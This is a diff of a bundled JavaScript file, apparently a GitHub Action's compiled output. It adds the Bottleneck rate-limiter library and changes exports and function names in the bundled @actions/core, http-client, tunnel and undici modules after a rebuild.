+	      return this._queues.shiftAll(function(job) {
+	        return job.doDrop({message});
+	      });
+	    }
+
+	    stop(options = {}) {
+	      var done, waitForExecuting;
+	      options = parser$5.load(options, this.stopDefaults);
+	      waitForExecuting = (at) => {
+	        var finished;
+	        finished = () => {
+	          var counts;
+	          counts = this._states.counts;
+	          return (counts[0] + counts[1] + counts[2] + counts[3]) === at;
+	        };
+	        return new this.Promise((resolve, reject) => {
+	          if (finished()) {
+	            return resolve();
+	          } else {
+	            return this.on("done", () => {
+	              if (finished()) {
+	                this.removeAllListeners("done");
+	                return resolve();
+	              }
+	            });
+	          }
+	        });
+	      };
+	      done = options.dropWaitingJobs ? (this._run = function(index, next) {
+	        return next.doDrop({
+	          message: options.dropErrorMessage
+	        });
+	      }, this._drainOne = () => {
+	        return this.Promise.resolve(null);
+	      }, this._registerLock.schedule(() => {
+	        return this._submitLock.schedule(() => {
+	          var k, ref, v;
+	          ref = this._scheduled;
+	          for (k in ref) {
+	            v = ref[k];
+	            if (this.jobStatus(v.job.options.id) === "RUNNING") {
+	              clearTimeout(v.timeout);
+	              clearTimeout(v.expiration);
+	              v.job.doDrop({
+	                message: options.dropErrorMessage
+	              });
+	            }
+	          }
+	          this._dropAllQueued(options.dropErrorMessage);
+	          return waitForExecuting(0);
+	        });
+	      })) : this.schedule({
+	        priority: NUM_PRIORITIES$1 - 1,
+	        weight: 0
+	      }, () => {
+	        return waitForExecuting(1);
+	      });
+	      this._receive = function(job) {
+	        return job._reject(new Bottleneck.prototype.BottleneckError(options.enqueueErrorMessage));
+	      };
+	      this.stop = () => {
+	        return this.Promise.reject(new Bottleneck.prototype.BottleneckError("stop() has already been called"));
+	      };
+	      return done;
+	    }
+
+	    async _addToQueue(job) {
+	      var args, blocked, error, options, reachedHWM, shifted, strategy;
+	      ({args, options} = job);
+	      try {
+	        ({reachedHWM, blocked, strategy} = (await this._store.__submit__(this.queued(), options.weight)));
+	      } catch (error1) {
+	        error = error1;
+	        this.Events.trigger("debug", `Could not queue ${options.id}`, {args, options, error});
+	        job.doDrop({error});
+	        return false;
+	      }
+	      if (blocked) {
+	        job.doDrop();
+	        return true;
+	      } else if (reachedHWM) {
+	        shifted = strategy === Bottleneck.prototype.strategy.LEAK ? this._queues.shiftLastFrom(options.priority) : strategy === Bottleneck.prototype.strategy.OVERFLOW_PRIORITY ? this._queues.shiftLastFrom(options.priority + 1) : strategy === Bottleneck.prototype.strategy.OVERFLOW ? job : void 0;
+	        if (shifted != null) {
+	          shifted.doDrop();
+	        }
+	        if ((shifted == null) || strategy === Bottleneck.prototype.strategy.OVERFLOW) {
+	          if (shifted == null) {
+	            job.doDrop();
+	          }
+	          return reachedHWM;
+	        }
+	      }
+	      job.doQueue(reachedHWM, blocked);
+	      this._queues.push(job);
+	      await this._drainAll();
+	      return reachedHWM;
+	    }
+
+	    _receive(job) {
+	      if (this._states.jobStatus(job.options.id) != null) {
+	        job._reject(new Bottleneck.prototype.BottleneckError(`A job with the same id already exists (id=${job.options.id})`));
+	        return false;
+	      } else {
+	        job.doReceive();
+	        return this._submitLock.schedule(this._addToQueue, job);
+	      }
+	    }
+
+	    submit(...args) {
+	      var cb, fn, job, options, ref, ref1, task;
+	      if (typeof args[0] === "function") {
+	        ref = args, [fn, ...args] = ref, [cb] = splice.call(args, -1);
+	        options = parser$5.load({}, this.jobDefaults);
+	      } else {
+	        ref1 = args, [options, fn, ...args] = ref1, [cb] = splice.call(args, -1);
+	        options = parser$5.load(options, this.jobDefaults);
+	      }
+	      task = (...args) => {
+	        return new this.Promise(function(resolve, reject) {
+	          return fn(...args, function(...args) {
+	            return (args[0] != null ? reject : resolve)(args);
+	          });
+	        });
+	      };
+	      job = new Job$1(task, args, options, this.jobDefaults, this.rejectOnDrop, this.Events, this._states, this.Promise);
+	      job.promise.then(function(args) {
+	        return typeof cb === "function" ? cb(...args) : void 0;
+	      }).catch(function(args) {
+	        if (Array.isArray(args)) {
+	          return typeof cb === "function" ? cb(...args) : void 0;
+	        } else {
+	          return typeof cb === "function" ? cb(args) : void 0;
+	        }
+	      });
+	      return this._receive(job);
+	    }
+
+	    schedule(...args) {
+	      var job, options, task;
+	      if (typeof args[0] === "function") {
+	        [task, ...args] = args;
+	        options = {};
+	      } else {
+	        [options, task, ...args] = args;
+	      }
+	      job = new Job$1(task, args, options, this.jobDefaults, this.rejectOnDrop, this.Events, this._states, this.Promise);
+	      this._receive(job);
+	      return job.promise;
+	    }
+
+	    wrap(fn) {
+	      var schedule, wrapped;
+	      schedule = this.schedule.bind(this);
+	      wrapped = function(...args) {
+	        return schedule(fn.bind(this), ...args);
+	      };
+	      wrapped.withOptions = function(options, ...args) {
+	        return schedule(options, fn, ...args);
+	      };
+	      return wrapped;
+	    }
+
+	    async updateSettings(options = {}) {
+	      await this._store.__updateSettings__(parser$5.overwrite(options, this.storeDefaults));
+	      parser$5.overwrite(options, this.instanceDefaults, this);
+	      return this;
+	    }
+
+	    currentReservoir() {
+	      return this._store.__currentReservoir__();
+	    }
+
+	    incrementReservoir(incr = 0) {
+	      return this._store.__incrementReservoir__(incr);
+	    }
+
+	  }
+	  Bottleneck.default = Bottleneck;
+
+	  Bottleneck.Events = Events$4;
+
+	  Bottleneck.version = Bottleneck.prototype.version = require$$8.version;
+
+	  Bottleneck.strategy = Bottleneck.prototype.strategy = {
+	    LEAK: 1,
+	    OVERFLOW: 2,
+	    OVERFLOW_PRIORITY: 4,
+	    BLOCK: 3
+	  };
+
+	  Bottleneck.BottleneckError = Bottleneck.prototype.BottleneckError = BottleneckError_1;
+
+	  Bottleneck.Group = Bottleneck.prototype.Group = Group_1;
+
+	  Bottleneck.RedisConnection = Bottleneck.prototype.RedisConnection = require$$2;
+
+	  Bottleneck.IORedisConnection = Bottleneck.prototype.IORedisConnection = require$$3;
+
+	  Bottleneck.Batcher = Bottleneck.prototype.Batcher = Batcher_1;
+
+	  Bottleneck.prototype.jobDefaults = {
+	    priority: DEFAULT_PRIORITY$1,
+	    weight: 1,
+	    expiration: null,
+	    id: "<no-id>"
+	  };
+
+	  Bottleneck.prototype.storeDefaults = {
+	    maxConcurrent: null,
+	    minTime: 0,
+	    highWater: null,
+	    strategy: Bottleneck.prototype.strategy.LEAK,
+	    penalty: null,
+	    reservoir: null,
+	    reservoirRefreshInterval: null,
+	    reservoirRefreshAmount: null,
+	    reservoirIncreaseInterval: null,
+	    reservoirIncreaseAmount: null,
+	    reservoirIncreaseMaximum: null
+	  };
+
+	  Bottleneck.prototype.localStoreDefaults = {
+	    Promise: Promise,
+	    timeout: null,
+	    heartbeatInterval: 250
+	  };
+
+	  Bottleneck.prototype.redisStoreDefaults = {
+	    Promise: Promise,
+	    timeout: null,
+	    heartbeatInterval: 5000,
+	    clientTimeout: 10000,
+	    Redis: null,
+	    clientOptions: {},
+	    clusterNodes: null,
+	    clearDatastore: false,
+	    connection: null
+	  };
+
+	  Bottleneck.prototype.instanceDefaults = {
+	    datastore: "local",
+	    connection: null,
+	    id: "<no-id>",
+	    rejectOnDrop: true,
+	    trackDoneStatus: false,
+	    Promise: Promise
+	  };
+
+	  Bottleneck.prototype.stopDefaults = {
+	    enqueueErrorMessage: "This limiter has been stopped and cannot accept new jobs.",
+	    dropWaitingJobs: true,
+	    dropErrorMessage: "This limiter has been stopped."
+	  };
+
+	  return Bottleneck;
+
+	}).call(commonjsGlobal);
+
+	var Bottleneck_1 = Bottleneck;
+
+	var lib = Bottleneck_1;
+
+	return lib;
+
+})));
+
+
+/***/ }),
+
 /***/ 80829:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
@@ -10464,7 +12837,7 @@ module.exports = validRange
 /***/ 20770:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
-/* unused reexport */ __nccwpck_require__(20218);
+module.exports = __nccwpck_require__(20218);
 
 
 /***/ }),
@@ -10472,7 +12845,6 @@ module.exports = validRange
 /***/ 20218:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
-var __webpack_unused_export__;
 
 
 var net = __nccwpck_require__(69278);
@@ -10484,10 +12856,10 @@ var assert = __nccwpck_require__(42613);
 var util = __nccwpck_require__(39023);
 
 
-__webpack_unused_export__ = httpOverHttp;
-__webpack_unused_export__ = httpsOverHttp;
-__webpack_unused_export__ = httpOverHttps;
-__webpack_unused_export__ = httpsOverHttps;
+exports.httpOverHttp = httpOverHttp;
+exports.httpsOverHttp = httpsOverHttp;
+exports.httpOverHttps = httpOverHttps;
+exports.httpsOverHttps = httpsOverHttps;
 
 
 function httpOverHttp(options) {
@@ -10736,7 +13108,7 @@ if (process.env.NODE_DEBUG && /\btunnel\b/.test(process.env.NODE_DEBUG)) {
 } else {
   debug = function() {};
 }
-__webpack_unused_export__ = debug; // for test
+exports.debug = debug; // for test
 
 
 /***/ }),
@@ -10744,7 +13116,6 @@ __webpack_unused_export__ = debug; // for test
 /***/ 46752:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
-var __webpack_unused_export__;
 
 
 const Client = __nccwpck_require__(23701)
@@ -10772,29 +13143,29 @@ const createRedirectInterceptor = __nccwpck_require__(25092)
 
 Object.assign(Dispatcher.prototype, api)
 
-__webpack_unused_export__ = Dispatcher
-__webpack_unused_export__ = Client
-__webpack_unused_export__ = Pool
-__webpack_unused_export__ = BalancedPool
-__webpack_unused_export__ = Agent
-__webpack_unused_export__ = ProxyAgent
-__webpack_unused_export__ = EnvHttpProxyAgent
-__webpack_unused_export__ = RetryAgent
-__webpack_unused_export__ = RetryHandler
+module.exports.Dispatcher = Dispatcher
+module.exports.Client = Client
+module.exports.Pool = Pool
+module.exports.BalancedPool = BalancedPool
+module.exports.Agent = Agent
+module.exports.ProxyAgent = ProxyAgent
+module.exports.EnvHttpProxyAgent = EnvHttpProxyAgent
+module.exports.RetryAgent = RetryAgent
+module.exports.RetryHandler = RetryHandler
 
-__webpack_unused_export__ = DecoratorHandler
-__webpack_unused_export__ = RedirectHandler
-__webpack_unused_export__ = createRedirectInterceptor
-__webpack_unused_export__ = {
+module.exports.DecoratorHandler = DecoratorHandler
+module.exports.RedirectHandler = RedirectHandler
+module.exports.createRedirectInterceptor = createRedirectInterceptor
+module.exports.interceptors = {
   redirect: __nccwpck_require__(21514),
   retry: __nccwpck_require__(92026),
   dump: __nccwpck_require__(88060),
   dns: __nccwpck_require__(70379)
 }
 
-__webpack_unused_export__ = buildConnector
-__webpack_unused_export__ = errors
-__webpack_unused_export__ = {
+module.exports.buildConnector = buildConnector
+module.exports.errors = errors
+module.exports.util = {
   parseHeaders: util.parseHeaders,
   headerNameToString: util.headerNameToString
 }
@@ -10848,11 +13219,11 @@ function makeDispatcher (fn) {
   }
 }
 
-__webpack_unused_export__ = setGlobalDispatcher
-__webpack_unused_export__ = getGlobalDispatcher
+module.exports.setGlobalDispatcher = setGlobalDispatcher
+module.exports.getGlobalDispatcher = getGlobalDispatcher
 
 const fetchImpl = (__nccwpck_require__(54398).fetch)
-__webpack_unused_export__ = async function fetch (init, options = undefined) {
+module.exports.fetch = async function fetch (init, options = undefined) {
   try {
     return await fetchImpl(init, options)
   } catch (err) {
@@ -10863,57 +13234,57 @@ __webpack_unused_export__ = async function fetch (init, options = undefined) {
     throw err
   }
 }
-/* unused reexport */ __nccwpck_require__(60660).Headers
-/* unused reexport */ __nccwpck_require__(99051).Response
-/* unused reexport */ __nccwpck_require__(9967).Request
-/* unused reexport */ __nccwpck_require__(35910).FormData
-__webpack_unused_export__ = globalThis.File ?? (__nccwpck_require__(4573).File)
-/* unused reexport */ __nccwpck_require__(48355).FileReader
+module.exports.Headers = __nccwpck_require__(60660).Headers
+module.exports.Response = __nccwpck_require__(99051).Response
+module.exports.Request = __nccwpck_require__(9967).Request
+module.exports.FormData = __nccwpck_require__(35910).FormData
+module.exports.File = globalThis.File ?? (__nccwpck_require__(4573).File)
+module.exports.FileReader = __nccwpck_require__(48355).FileReader
 
 const { setGlobalOrigin, getGlobalOrigin } = __nccwpck_require__(51059)
 
-__webpack_unused_export__ = setGlobalOrigin
-__webpack_unused_export__ = getGlobalOrigin
+module.exports.setGlobalOrigin = setGlobalOrigin
+module.exports.getGlobalOrigin = getGlobalOrigin
 
 const { CacheStorage } = __nccwpck_require__(3245)
 const { kConstruct } = __nccwpck_require__(20109)
 
 // Cache & CacheStorage are tightly coupled with fetch. Even if it may run
 // in an older version of Node, it doesn't have any use without fetch.
-__webpack_unused_export__ = new CacheStorage(kConstruct)
+module.exports.caches = new CacheStorage(kConstruct)
 
 const { deleteCookie, getCookies, getSetCookies, setCookie } = __nccwpck_require__(79061)
 
-__webpack_unused_export__ = deleteCookie
-__webpack_unused_export__ = getCookies
-__webpack_unused_export__ = getSetCookies
-__webpack_unused_export__ = setCookie
+module.exports.deleteCookie = deleteCookie
+module.exports.getCookies = getCookies
+module.exports.getSetCookies = getSetCookies
+module.exports.setCookie = setCookie
 
 const { parseMIMEType, serializeAMimeType } = __nccwpck_require__(51900)
 
-__webpack_unused_export__ = parseMIMEType
-__webpack_unused_export__ = serializeAMimeType
+module.exports.parseMIMEType = parseMIMEType
+module.exports.serializeAMimeType = serializeAMimeType
 
 const { CloseEvent, ErrorEvent, MessageEvent } = __nccwpck_require__(15188)
-/* unused reexport */ __nccwpck_require__(13726).WebSocket
-__webpack_unused_export__ = CloseEvent
-__webpack_unused_export__ = ErrorEvent
-__webpack_unused_export__ = MessageEvent
+module.exports.WebSocket = __nccwpck_require__(13726).WebSocket
+module.exports.CloseEvent = CloseEvent
+module.exports.ErrorEvent = ErrorEvent
+module.exports.MessageEvent = MessageEvent
 
-__webpack_unused_export__ = makeDispatcher(api.request)
-__webpack_unused_export__ = makeDispatcher(api.stream)
-__webpack_unused_export__ = makeDispatcher(api.pipeline)
-__webpack_unused_export__ = makeDispatcher(api.connect)
-__webpack_unused_export__ = makeDispatcher(api.upgrade)
+module.exports.request = makeDispatcher(api.request)
+module.exports.stream = makeDispatcher(api.stream)
+module.exports.pipeline = makeDispatcher(api.pipeline)
+module.exports.connect = makeDispatcher(api.connect)
+module.exports.upgrade = makeDispatcher(api.upgrade)
 
-__webpack_unused_export__ = MockClient
-__webpack_unused_export__ = MockPool
-__webpack_unused_export__ = MockAgent
-__webpack_unused_export__ = mockErrors
+module.exports.MockClient = MockClient
+module.exports.MockPool = MockPool
+module.exports.MockAgent = MockAgent
+module.exports.mockErrors = mockErrors
 
 const { EventSource } = __nccwpck_require__(21238)
 
-__webpack_unused_export__ = EventSource
+module.exports.EventSource = EventSource
 
 
 /***/ }),
@@ -48102,6 +50473,52 @@ module.exports = /*#__PURE__*/JSON.parse('["_http_agent","_http_client","_http_c
 /************************************************************************/
 var __webpack_exports__ = {};
 
+// NAMESPACE OBJECT: ./node_modules/@actions/core/lib/platform.js
+var platform_namespaceObject = {};
+__nccwpck_require__.r(platform_namespaceObject);
+__nccwpck_require__.d(platform_namespaceObject, {
+  arch: () => (arch),
+  getDetails: () => (getDetails),
+  isLinux: () => (isLinux),
+  isMacOS: () => (isMacOS),
+  isWindows: () => (isWindows),
+  platform: () => (platform)
+});
+
+// NAMESPACE OBJECT: ./node_modules/@actions/core/lib/core.js
+var core_namespaceObject = {};
+__nccwpck_require__.r(core_namespaceObject);
+__nccwpck_require__.d(core_namespaceObject, {
+  ExitCode: () => (ExitCode),
+  addPath: () => (addPath),
+  debug: () => (debug),
+  endGroup: () => (endGroup),
+  error: () => (error),
+  exportVariable: () => (exportVariable),
+  getBooleanInput: () => (getBooleanInput),
+  getIDToken: () => (getIDToken),
+  getInput: () => (getInput),
+  getMultilineInput: () => (getMultilineInput),
+  getState: () => (getState),
+  group: () => (group),
+  info: () => (info),
+  isDebug: () => (isDebug),
+  markdownSummary: () => (markdownSummary),
+  notice: () => (notice),
+  platform: () => (platform_namespaceObject),
+  saveState: () => (saveState),
+  setCommandEcho: () => (setCommandEcho),
+  setFailed: () => (setFailed),
+  setOutput: () => (setOutput),
+  setSecret: () => (setSecret),
+  startGroup: () => (startGroup),
+  summary: () => (summary),
+  toPlatformPath: () => (toPlatformPath),
+  toPosixPath: () => (toPosixPath),
+  toWin32Path: () => (toWin32Path),
+  warning: () => (warning)
+});
+
 // NAMESPACE OBJECT: ./node_modules/@renovatebot/pep440/lib/operator.js
 var operator_namespaceObject = {};
 __nccwpck_require__.r(operator_namespaceObject);
@@ -48132,7 +50549,7 @@ var external_os_ = __nccwpck_require__(70857);
  * Sanitizes an input into a string so it can be passed into issueCommand safely
  * @param input input to sanitize into a string
  */
-function utils_toCommandValue(input) {
+function toCommandValue(input) {
     if (input === null || input === undefined) {
         return '';
     }
@@ -48147,7 +50564,7 @@ function utils_toCommandValue(input) {
  * @returns The command properties to send with the actual annotation command
  * See IssueCommandProperties: https://github.com/actions/runner/blob/main/src/Runner.Worker/ActionCommandManager.cs#L646
  */
-function utils_toCommandProperties(annotationProperties) {
+function toCommandProperties(annotationProperties) {
     if (!Object.keys(annotationProperties).length) {
         return {};
     }
@@ -48197,12 +50614,12 @@ function utils_toCommandProperties(annotationProperties) {
  * This is an internal utility function that powers the public API functions
  * such as setSecret, warning, error, and exportVariable.
  */
-function command_issueCommand(command, properties, message) {
+function issueCommand(command, properties, message) {
     const cmd = new Command(command, properties, message);
     process.stdout.write(cmd.toString() + external_os_.EOL);
 }
-function command_issue(name, message = '') {
-    command_issueCommand(name, {}, message);
+function issue(name, message = '') {
+    issueCommand(name, {}, message);
 }
 const CMD_STRING = '::';
 class Command {
@@ -48239,13 +50656,13 @@ class Command {
     }
 }
 function escapeData(s) {
-    return utils_toCommandValue(s)
+    return toCommandValue(s)
         .replace(/%/g, '%25')
         .replace(/\r/g, '%0D')
         .replace(/\n/g, '%0A');
 }
 function escapeProperty(s) {
-    return utils_toCommandValue(s)
+    return toCommandValue(s)
         .replace(/%/g, '%25')
         .replace(/\r/g, '%0D')
         .replace(/\n/g, '%0A')
@@ -48265,7 +50682,7 @@ var external_fs_ = __nccwpck_require__(79896);
 
 
 
-function file_command_issueFileCommand(command, message) {
+function issueFileCommand(command, message) {
     const filePath = process.env[`GITHUB_${command}`];
     if (!filePath) {
         throw new Error(`Unable to find environment variable for file command ${command}`);
@@ -48273,13 +50690,13 @@ function file_command_issueFileCommand(command, message) {
     if (!external_fs_.existsSync(filePath)) {
         throw new Error(`Missing file at path: ${filePath}`);
     }
-    external_fs_.appendFileSync(filePath, `${utils_toCommandValue(message)}${external_os_.EOL}`, {
+    external_fs_.appendFileSync(filePath, `${toCommandValue(message)}${external_os_.EOL}`, {
         encoding: 'utf8'
     });
 }
-function file_command_prepareKeyValueMessage(key, value) {
+function prepareKeyValueMessage(key, value) {
     const delimiter = `ghadelimiter_${external_crypto_.randomUUID()}`;
-    const convertedValue = utils_toCommandValue(value);
+    const convertedValue = toCommandValue(value);
     // These should realistically never happen, but just in case someone finds a
     // way to exploit uuid generation let's not allow keys or values that contain
     // the delimiter.
@@ -48296,8 +50713,10 @@ function file_command_prepareKeyValueMessage(key, value) {
 var external_path_ = __nccwpck_require__(16928);
 // EXTERNAL MODULE: external "http"
 var external_http_ = __nccwpck_require__(58611);
+var external_http_namespaceObject = /*#__PURE__*/__nccwpck_require__.t(external_http_, 2);
 // EXTERNAL MODULE: external "https"
 var external_https_ = __nccwpck_require__(65692);
+var external_https_namespaceObject = /*#__PURE__*/__nccwpck_require__.t(external_https_, 2);
 ;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/proxy.js
 function getProxyUrl(reqUrl) {
     const usingSsl = reqUrl.protocol === 'https:';
@@ -48390,7 +50809,7 @@ class DecodedURL extends URL {
 }
 //# sourceMappingURL=proxy.js.map
 // EXTERNAL MODULE: ./node_modules/tunnel/index.js
-var node_modules_tunnel = __nccwpck_require__(20770);
+var tunnel = __nccwpck_require__(20770);
 // EXTERNAL MODULE: ./node_modules/undici/index.js
 var undici = __nccwpck_require__(46752);
 ;// CONCATENATED MODULE: ./node_modules/@actions/http-client/lib/index.js
@@ -48468,7 +50887,7 @@ const HttpResponseRetryCodes = [
     HttpCodes.ServiceUnavailable,
     HttpCodes.GatewayTimeout
 ];
-const RetryableHttpVerbs = (/* unused pure expression or super */ null && (['OPTIONS', 'GET', 'DELETE', 'HEAD']));
+const RetryableHttpVerbs = ['OPTIONS', 'GET', 'DELETE', 'HEAD'];
 const ExponentialBackoffCeiling = 10;
 const ExponentialBackoffTimeSlice = 5;
 class HttpClientError extends Error {
@@ -48514,7 +50933,7 @@ function isHttps(requestUrl) {
     const parsedUrl = new URL(requestUrl);
     return parsedUrl.protocol === 'https:';
 }
-class lib_HttpClient {
+class HttpClient {
     constructor(userAgent, handlers, requestOptions) {
         this._ignoreSslError = false;
         this._allowRedirects = true;
@@ -48817,7 +51236,7 @@ class lib_HttpClient {
     }
     getAgentDispatcher(serverUrl) {
         const parsedUrl = new URL(serverUrl);
-        const proxyUrl = pm.getProxyUrl(parsedUrl);
+        const proxyUrl = getProxyUrl(parsedUrl);
         const useProxy = proxyUrl && proxyUrl.hostname;
         if (!useProxy) {
             return;
@@ -48828,7 +51247,7 @@ class lib_HttpClient {
         const info = {};
         info.parsedUrl = requestUrl;
         const usingSsl = info.parsedUrl.protocol === 'https:';
-        info.httpModule = usingSsl ? https : http;
+        info.httpModule = usingSsl ? external_https_namespaceObject : external_http_namespaceObject;
         const defaultPort = usingSsl ? 443 : 80;
         info.options = {};
         info.options.host = info.parsedUrl.hostname;
@@ -48927,7 +51346,7 @@ class lib_HttpClient {
     }
     _getAgent(parsedUrl) {
         let agent;
-        const proxyUrl = pm.getProxyUrl(parsedUrl);
+        const proxyUrl = getProxyUrl(parsedUrl);
         const useProxy = proxyUrl && proxyUrl.hostname;
         if (this._keepAlive && useProxy) {
             agent = this._proxyAgent;
@@ -48942,7 +51361,7 @@ class lib_HttpClient {
         const usingSsl = parsedUrl.protocol === 'https:';
         let maxSockets = 100;
         if (this.requestOptions) {
-            maxSockets = this.requestOptions.maxSockets || http.globalAgent.maxSockets;
+            maxSockets = this.requestOptions.maxSockets || external_http_.globalAgent.maxSockets;
         }
         // This is `useProxy` again, but we need to check `proxyURl` directly for TypeScripts's flow analysis.
         if (proxyUrl && proxyUrl.hostname) {
@@ -48967,7 +51386,7 @@ class lib_HttpClient {
         // if tunneling agent isn't assigned create a new agent
         if (!agent) {
             const options = { keepAlive: this._keepAlive, maxSockets };
-            agent = usingSsl ? new https.Agent(options) : new http.Agent(options);
+            agent = usingSsl ? new external_https_.Agent(options) : new external_http_.Agent(options);
             this._agent = agent;
         }
         if (usingSsl && this._ignoreSslError) {
@@ -48990,7 +51409,7 @@ class lib_HttpClient {
             return proxyAgent;
         }
         const usingSsl = parsedUrl.protocol === 'https:';
-        proxyAgent = new ProxyAgent(Object.assign({ uri: proxyUrl.href, pipelining: !this._keepAlive ? 0 : 1 }, ((proxyUrl.username || proxyUrl.password) && {
+        proxyAgent = new undici.ProxyAgent(Object.assign({ uri: proxyUrl.href, pipelining: !this._keepAlive ? 0 : 1 }, ((proxyUrl.username || proxyUrl.password) && {
             token: `Basic ${Buffer.from(`${proxyUrl.username}:${proxyUrl.password}`).toString('base64')}`
         })));
         this._proxyAgentDispatcher = proxyAgent;
@@ -49121,7 +51540,7 @@ class BasicCredentialHandler {
         });
     }
 }
-class auth_BearerCredentialHandler {
+class BearerCredentialHandler {
     constructor(token) {
         this.token = token;
     }
@@ -49179,13 +51598,13 @@ var oidc_utils_awaiter = (undefined && undefined.__awaiter) || function (thisArg
 
 
 
-class oidc_utils_OidcClient {
+class OidcClient {
     static createHttpClient(allowRetry = true, maxRetry = 10) {
         const requestOptions = {
             allowRetries: allowRetry,
             maxRetries: maxRetry
         };
-        return new HttpClient('actions/oidc-client', [new BearerCredentialHandler(oidc_utils_OidcClient.getRequestToken())], requestOptions);
+        return new HttpClient('actions/oidc-client', [new BearerCredentialHandler(OidcClient.getRequestToken())], requestOptions);
     }
     static getRequestToken() {
         const token = process.env['ACTIONS_ID_TOKEN_REQUEST_TOKEN'];
@@ -49204,7 +51623,7 @@ class oidc_utils_OidcClient {
     static getCall(id_token_url) {
         return oidc_utils_awaiter(this, void 0, void 0, function* () {
             var _a;
-            const httpclient = oidc_utils_OidcClient.createHttpClient();
+            const httpclient = OidcClient.createHttpClient();
             const res = yield httpclient
                 .getJson(id_token_url)
                 .catch(error => {
@@ -49223,13 +51642,13 @@ class oidc_utils_OidcClient {
         return oidc_utils_awaiter(this, void 0, void 0, function* () {
             try {
                 // New ID Token is requested from action service
-                let id_token_url = oidc_utils_OidcClient.getIDTokenUrl();
+                let id_token_url = OidcClient.getIDTokenUrl();
                 if (audience) {
                     const encodedAudience = encodeURIComponent(audience);
                     id_token_url = `${id_token_url}&audience=${encodedAudience}`;
                 }
                 debug(`ID token url is ${id_token_url}`);
-                const id_token = yield oidc_utils_OidcClient.getCall(id_token_url);
+                const id_token = yield OidcClient.getCall(id_token_url);
                 setSecret(id_token);
                 return id_token;
             }
@@ -49518,8 +51937,8 @@ const _summary = new Summary();
 /**
  * @deprecated use `core.summary`
  */
-const markdownSummary = (/* unused pure expression or super */ null && (_summary));
-const summary = (/* unused pure expression or super */ null && (_summary));
+const markdownSummary = _summary;
+const summary = _summary;
 //# sourceMappingURL=summary.js.map
 ;// CONCATENATED MODULE: ./node_modules/@actions/core/lib/path-utils.js
 
@@ -49552,7 +51971,7 @@ function toWin32Path(pth) {
  * @return string The platform-specific path.
  */
 function toPlatformPath(pth) {
-    return pth.replace(/[/\\]/g, path.sep);
+    return pth.replace(/[/\\]/g, external_path_.sep);
 }
 //# sourceMappingURL=path-utils.js.map
 // EXTERNAL MODULE: external "string_decoder"
@@ -50627,16 +53046,16 @@ var exec_awaiter = (undefined && undefined.__awaiter) || function (thisArg, _arg
  * @param     options            optional exec options.  See ExecOptions
  * @returns   Promise<number>    exit code
  */
-function exec_exec(commandLine, args, options) {
+function exec(commandLine, args, options) {
     return exec_awaiter(this, void 0, void 0, function* () {
-        const commandArgs = tr.argStringToArray(commandLine);
+        const commandArgs = argStringToArray(commandLine);
         if (commandArgs.length === 0) {
             throw new Error(`Parameter 'commandLine' cannot be null or empty.`);
         }
         // Path to tool to execute should be first arg
         const toolPath = commandArgs[0];
         args = commandArgs.slice(1).concat(args || []);
-        const runner = new tr.ToolRunner(toolPath, args, options);
+        const runner = new ToolRunner(toolPath, args, options);
         return runner.exec();
     });
 }
@@ -50656,8 +53075,8 @@ function getExecOutput(commandLine, args, options) {
         let stdout = '';
         let stderr = '';
         //Using string decoder covers the case where a mult-byte character is split
-        const stdoutDecoder = new StringDecoder('utf8');
-        const stderrDecoder = new StringDecoder('utf8');
+        const stdoutDecoder = new external_string_decoder_.StringDecoder('utf8');
+        const stderrDecoder = new external_string_decoder_.StringDecoder('utf8');
         const originalStdoutListener = (_a = options === null || options === void 0 ? void 0 : options.listeners) === null || _a === void 0 ? void 0 : _a.stdout;
         const originalStdErrListener = (_b = options === null || options === void 0 ? void 0 : options.listeners) === null || _b === void 0 ? void 0 : _b.stderr;
         const stdErrListener = (data) => {
@@ -50673,7 +53092,7 @@ function getExecOutput(commandLine, args, options) {
             }
         };
         const listeners = Object.assign(Object.assign({}, options === null || options === void 0 ? void 0 : options.listeners), { stdout: stdOutListener, stderr: stdErrListener });
-        const exitCode = yield exec_exec(commandLine, args, Object.assign(Object.assign({}, options), { listeners }));
+        const exitCode = yield exec(commandLine, args, Object.assign(Object.assign({}, options), { listeners }));
         //flush any remaining characters
         stdout += stdoutDecoder.end();
         stderr += stderrDecoder.end();
@@ -50698,10 +53117,10 @@ var platform_awaiter = (undefined && undefined.__awaiter) || function (thisArg, 
 
 
 const getWindowsInfo = () => platform_awaiter(void 0, void 0, void 0, function* () {
-    const { stdout: version } = yield exec.getExecOutput('powershell -command "(Get-CimInstance -ClassName Win32_OperatingSystem).Version"', undefined, {
+    const { stdout: version } = yield getExecOutput('powershell -command "(Get-CimInstance -ClassName Win32_OperatingSystem).Version"', undefined, {
         silent: true
     });
-    const { stdout: name } = yield exec.getExecOutput('powershell -command "(Get-CimInstance -ClassName Win32_OperatingSystem).Caption"', undefined, {
+    const { stdout: name } = yield getExecOutput('powershell -command "(Get-CimInstance -ClassName Win32_OperatingSystem).Caption"', undefined, {
         silent: true
     });
     return {
@@ -50711,7 +53130,7 @@ const getWindowsInfo = () => platform_awaiter(void 0, void 0, void 0, function* 
 });
 const getMacOsInfo = () => platform_awaiter(void 0, void 0, void 0, function* () {
     var _a, _b, _c, _d;
-    const { stdout } = yield exec.getExecOutput('sw_vers', undefined, {
+    const { stdout } = yield getExecOutput('sw_vers', undefined, {
         silent: true
     });
     const version = (_b = (_a = stdout.match(/ProductVersion:\s*(.+)/)) === null || _a === void 0 ? void 0 : _a[1]) !== null && _b !== void 0 ? _b : '';
@@ -50722,7 +53141,7 @@ const getMacOsInfo = () => platform_awaiter(void 0, void 0, void 0, function* ()
     };
 });
 const getLinuxInfo = () => platform_awaiter(void 0, void 0, void 0, function* () {
-    const { stdout } = yield exec.getExecOutput('lsb_release', ['-i', '-r', '-s'], {
+    const { stdout } = yield getExecOutput('lsb_release', ['-i', '-r', '-s'], {
         silent: true
     });
     const [name, version] = stdout.trim().split('\n');
@@ -50827,7 +53246,7 @@ function exportVariable(name, val) {
  * console.log(`Using token: ${apiToken}`); // Outputs: "Using token: ***"
  * ```
  */
-function core_setSecret(secret) {
+function setSecret(secret) {
     issueCommand('add-mask', {}, secret);
 }
 /**
@@ -50842,7 +53261,7 @@ function addPath(inputPath) {
     else {
         issueCommand('add-path', {}, inputPath);
     }
-    process.env['PATH'] = `${inputPath}${path.delimiter}${process.env['PATH']}`;
